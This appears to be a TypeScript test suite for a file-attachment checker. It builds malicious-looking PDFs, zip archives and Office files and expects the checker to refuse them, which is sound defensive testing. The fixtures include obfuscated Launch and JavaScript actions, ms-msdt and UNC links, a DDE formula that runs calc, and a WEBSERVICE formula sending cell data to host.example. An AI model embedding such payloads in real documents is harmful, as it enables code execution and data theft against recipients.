import { deflateRawSync, deflateSync } from 'node:zlib';
import { crc32 } from 'node:zlib';
import { expect, test } from 'vitest';
import { openFile } from '../../src/attachments/open-file.ts';
import { RefusedFile, UnreadableFile } from '../../src/attachments/outcome.ts';
import { contentTypes, makeDocx, makeXlsx, paragraph, relations, wordPart } from './make-office.ts';
import { hex, makePdf, stream } from './make-pdf.ts';

const open = (bytes: Buffer, name: string) => openFile(bytes, name, false);
const action = (entries: string) =>
  makePdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${entries} >> >>]` });
const packed = (objects: readonly string[]) => {
  const offsets = objects.map((_, index) => objects.slice(0, index).join(' ').length + (index ? 1 : 0));
  const head = offsets.map((offset, index) => `${String(200 + index)} ${String(offset)}`).join(' ');
  return stream(
    `${head} ${objects.join(' ')}`,
    `/Type /ObjStm /N ${String(objects.length)} /First ${String(head.length + 1)}`,
  );
};
const octal = (text: string) => [...text].map((one) => `\\${one.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const bytes = (text: string) => Buffer.from(text).toString('hex');

const pdfs: Readonly<Record<string, () => Buffer>> = {
  'a remark between key and name': () => action('/S%\n/Launch /F (a.exe)'),
  'a name in codes': () => action('/S /#4c#61unch /F (a.exe)'),
  'a key in codes': () => action('/#53 /L#61unch'),
  'a name elsewhere': () => makePdf({ catalog: '/OpenAction << /S 100 0 R /F (a.exe) >>', objects: ['/Launch'] }),
  'an action elsewhere': () => makePdf({ catalog: '/OpenAction 100 0 R', objects: ['<< /S /Launch /F (a.exe) >>'] }),
  'packed objects': () => makePdf({ objects: [packed(['<< /S /La#75nch >>', '<< >>'])] }),
  'an object within a string of another': () => makePdf({ objects: ['(x 300 0 obj << /S /Launch >> endobj)'] }),
  'an object within a stream of another': () =>
    makePdf({ objects: ['<< /Length 40 >>\nstream\n300 0 obj << /S /Launch >> endobj       \nendstream'] }),
  'an action after another': () => action('/S /GoTo /D [10 0 R /Fit] /Next [<< /S /Launch >>]'),
  'scripts by name': () =>
    makePdf({ catalog: '/Names << /Java#53cript << /Names [(a) << /S /JavaScript /JS (a) >>] >> >>' }),
  'a script in hexadecimal figures': () => action(`/S /URI /URI <${bytes('javascript:a()')}>`),
  'a script in octal figures': () => action(`/S /URI /URI (${octal('javascript:a()')})`),
  'a script in UTF-16': () => action(`/S /URI /URI ${hex('java script:a()')}`),
  'a script elsewhere': () => makePdf({ objects: ['<< /S /URI /URI 101 0 R >>', '(JavaScript:a)'] }),
  'an address of another machine': () => action('/S /URI /URI (\\\\\\\\host\\\\share)'),
  'a program by its address': () => action('/S /URI /URI (ms-msdt:/id)'),
  'a file on another host': () => action('/S /GoToR /D [0 /Fit] /F (\\\\\\\\host\\\\share\\\\a.pdf)'),
  'a file by an address': () => action('/S /GoToR /D [0 /Fit] /F << /FS /URL /F (http://host.example/a.pdf) >>'),
  'a file in a file': () => action('/S /GoToE /D [0 /Fit]'),
  'a form that is sent': () => makePdf({ page: '/AA << /O << /S /Submit#46orm /F (http://host.example/) >> >>' }),
  'a film': () => makePdf({ page: '/Annots [<< /Type /Annot /Subtype /Rich#4dedia /Rect [0 0 9 9] >>]' }),
  'a form of XML': () => makePdf({ catalog: '/AcroForm << /X#46A 100 0 R >>', objects: [stream('<xdp/>')] }),
  'a stream from elsewhere': () =>
    makePdf({ objects: ['<< /Length 0 /F (\\\\\\\\host\\\\a) >>\nstream\n\nendstream'] }),
  'a program that hangs on nothing': () =>
    makePdf({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>', stream('MZ')] }),
};

test.each(Object.entries(pdfs))('PDF: %s', async (_, make) => {
  await expect(open(make(), 'a.pdf')).rejects.toThrow(RefusedFile);
});

test('what is seen in a PDF and not understood is not fine', async () => {
  for (const make of [
    () => action('/S /Unheard /F (a)'),
    () =>
      makePdf({
        objects: [
          Buffer.concat([
            Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream'),
          ]),
        ],
      }),
    () => makePdf({ catalog: '/Encrypt 100 0 R', objects: ['<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>'] }),
    () =>
      makePdf({
        objects: [
          '<< /Type /Filespec /F (a.txt) /EF << /F 101 0 R >> >>',
          '<< /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream',
        ],
      }),
    // One number, two objects: readers disagree which it is.
    () => Buffer.from(makePdf().toString('latin1').replace('7 0 obj', '11 0 obj << >> endobj 7 0 obj'), 'latin1'),
  ]) {
    await expect(open(make(), 'a.pdf')).rejects.toThrow(UnreadableFile);
  }
});

test('links, bookmarks, views and files of an office pass', async () => {
  for (const entries of [
    '/S /URI /URI (https://www.gov.cn/)',
    '/S /URI /URI (mailto:a@b.example)',
    '/S /URI /URI (tel:12345)',
    '/S /GoTo /D [10 0 R /Fit]',
    '/S /GoToR /D [0 /Fit] /F (b.pdf)',
    '/S /Named /N /NextPage',
  ]) {
    expect(await open(action(entries), 'a.pdf'), entries).toMatchObject({ positions: 'none' });
  }
});

/** Parts as a zip that says what it is told to say. */
interface Entry {
  name: string;
  content: string;
  /** What stands before the part, where that is not what the list says. */
  before?: Partial<{ name: string; size: number; packed: number; method: number }>;
  extra?: Buffer;
  remark?: string;
}

function zip(entries: readonly Entry[], { between = '', remark = '', count = entries.length } = {}): Buffer {
  const parts: Buffer[] = [];
  const list: Buffer[] = [];
  let at = 0;
  for (const { name, content, before = {}, extra = Buffer.alloc(0), remark: aside = '' } of entries) {
    const raw = Buffer.from(content);
    const body = deflateRawSync(raw);
    const common = (given: { size?: number; packed?: number; method?: number; name?: string }) => {
      const called = Buffer.from(given.name ?? name);
      const head = Buffer.alloc(26);
      head.writeUInt16LE(20, 0);
      head.writeUInt16LE(given.method ?? 8, 4);
      head.writeUInt32LE(crc32(raw), 10);
      head.writeUInt32LE(given.packed ?? body.length, 14);
      head.writeUInt32LE(given.size ?? raw.length, 18);
      head.writeUInt16LE(called.length, 22);
      head.writeUInt16LE(extra.length, 24);
      return { head, called };
    };
    const own = common(before);
    const part = Buffer.concat([
      Buffer.from('PK\u0003\u0004'),
      own.head,
      own.called,
      extra,
      body,
      Buffer.from(between),
    ]);
    const listed = common({});
    const tail = Buffer.alloc(14);
    tail.writeUInt16LE(Buffer.byteLength(aside), 0);
    tail.writeUInt32LE(at, 10);
    list.push(Buffer.from('PK\u0001\u0002\u0014\u0000'), listed.head, tail, listed.called, extra, Buffer.from(aside));
    parts.push(part);
    at += part.length;
  }
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(Buffer.concat(list).length, 12);
  end.writeUInt32LE(at, 16);
  end.writeUInt16LE(remark.length, 20);
  return Buffer.concat([...parts, ...list, end, Buffer.from(remark)]);
}

const document = { name: 'word/document.xml', content: wordPart('document', `<w:body>${paragraph('通知')}</w:body>`) };
const hidden = { name: 'word/document.xml', content: wordPart('document', '<w:body/>') };

const archives: Readonly<Record<string, () => Buffer>> = {
  'a part twice': () => zip([document, hidden]),
  'a part twice in another case': () => zip([document, { ...hidden, name: 'WORD/Document.xml' }]),
  'another name before the part': () => zip([{ ...document, before: { name: 'word/documenT.xml' } }]),
  'a false size before the part': () => zip([{ ...document, before: { size: 7 } }]),
  'a false length before the part': () => zip([{ ...document, before: { packed: 7 } }]),
  'another method before the part': () => zip([{ ...document, before: { method: 0 } }]),
  'bytes between the parts': () => zip([document, { name: 'a.xml', content: '<a/>' }], { between: '13800001234' }),
  'a remark behind the list': () => zip([document], { remark: '13800001234' }),
  'a remark in the list': () => zip([{ ...document, remark: '13800001234' }]),
  'more parts than are counted': () => zip([document, { name: 'a.xml', content: '<a/>' }], { count: 1 }),
};

test.each(Object.entries(archives))('zip: %s', async (_, make) => {
  await expect(open(make(), 'a.docx')).rejects.toThrow(RefusedFile);
});

test('what stands beside the parts of a zip is read', async () => {
  const { passages } = await open(
    zip([{ ...document, extra: Buffer.from('\u0099\u0099\u000b\u000013800001234', 'latin1') }]),
    'a.docx',
  );
  expect(passages.filter(({ sweep }) => sweep).map(({ text }) => text)).toEqual([
    expect.stringContaining('13800001234'),
  ]);
});

test('a zip that other programs write is opened; strange names are not', async () => {
  expect((await open(zip([document]), 'a.docx')).passages).toMatchObject([{ where: '正文', text: '通知' }]);
  for (const name of ['word\\document.xml', '/word/a.xml', '../a.xml']) {
    await expect(open(zip([document, { name, content: '<a/>' }]), 'a.docx'), name).rejects.toThrow(UnreadableFile);
  }
});

const field = (...pieces: string[]) =>
  makeDocx(
    `<w:p><w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="end"/></w:p>`,
  );
const sheet = (formula: string) =>
  makeXlsx([{ name: '表', rows: [] }], {
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula}</f></c></row></sheetData></worksheet>`,
  });
const linked = (type: string, target: string, mode = 'External') =>
  makeDocx(paragraph('通知'), { 'word/_rels/document.xml.rels': relations([['rId1', type, target, mode]]) });

const offices: Readonly<Record<string, readonly [name: string, make: () => Buffer]>> = {
  'a field in pieces': ['a.docx', () => field('D', 'DE', 'AUTO c:\\cmd')],
  'a field in a header of another name': [
    'a.docx',
    () =>
      makeDocx(paragraph('通知'), {
        'word/kopf.xml': wordPart('hdr', `<w:p><w:fldSimple w:instr=" dde excel"/></w:p>`),
      }),
  ],
  'a program in a formula': ['a.xlsx', () => sheet("cmd|'/c calc'!A0")],
  'a question to the web in a formula': ['a.xlsx', () => sheet('_xlfn.WEBSERVICE("http://host.example/"&amp;A1)')],
  'a link to a program': ['a.docx', () => linked('hyperlink', 'ms-msdt:/id')],
  'a link to another machine': ['a.docx', () => linked('hyperlink', '\\\\host\\share')],
  'a link with a break in its name': ['a.docx', () => linked('hyperlink', 'java&#10;script:a')],
  'a template': ['a.docx', () => linked('attachedTemplate', 'file://host/a.dotm')],
  'a picture from elsewhere, said in small letters': [
    'a.docx',
    () => linked('image', 'http://host.example/a.png', 'external'),
  ],
  'a macro by its type': [
    'a.docx',
    () =>
      makeDocx(paragraph('通知'), {
        '[Content_Types].xml': contentTypes('/word/a.xml', 'application/vnd.ms-office.vba&#80;roject'),
      }),
  ],
  'sheets of macros by what they are': [
    'a.xlsx',
    () => makeXlsx([{ name: '表', rows: [] }], { 'xl/worksheets/sheet9.xml': '<xm:macrosheet xmlns:xm="m"/>' }),
  ],
  'connections by what they are': [
    'a.xlsx',
    () => makeXlsx([{ name: '表', rows: [] }], { 'xl/verbindungen.xml': '<connections/>' }),
  ],
  'a link to a program in another part': [
    'a.xlsx',
    () =>
      makeXlsx([{ name: '表', rows: [] }], {
        'xl/anderes/a.xml': '<externalLink><ddeLink ddeService="a"/></externalLink>',
      }),
  ],
  'a script in a drawing': [
    'a.docx',
    () => makeDocx(paragraph('通知'), { 'word/media/a.svg': '<svg><script>a()</script></svg>' }),
  ],
  'a workbook that is called a document': ['a.docx', () => makeXlsx([{ name: '表', rows: [['甲']] }])],
};

test.each(Object.entries(offices))('Office: %s', async (_, [name, make]) => {
  await expect(open(make(), name)).rejects.toThrow(RefusedFile);
});

test('what is seen in an Office file and not understood is not fine', async () => {
  const nested =
    '<w:p><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r></w:p>';
  for (const bytes of [
    makeDocx(nested),
    makeDocx(paragraph('通知'), { 'word/media/image1.png': Buffer.from('no picture') }),
    makeDocx(paragraph('通知'), {
      'word/media/image1.jpg': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), deflateSync('x')]),
    }),
    makeDocx('', { 'word/document.xml': `<!DOCTYPE a [<!ENTITY x "13800001234">]>${document.content}` }),
    makeDocx('', { 'word/document.xml': `<?xml version="1.0" encoding="UTF-7"?>${document.content}` }),
  ]) {
    await expect(open(bytes, 'a.docx')).rejects.toThrow(UnreadableFile);
  }
});
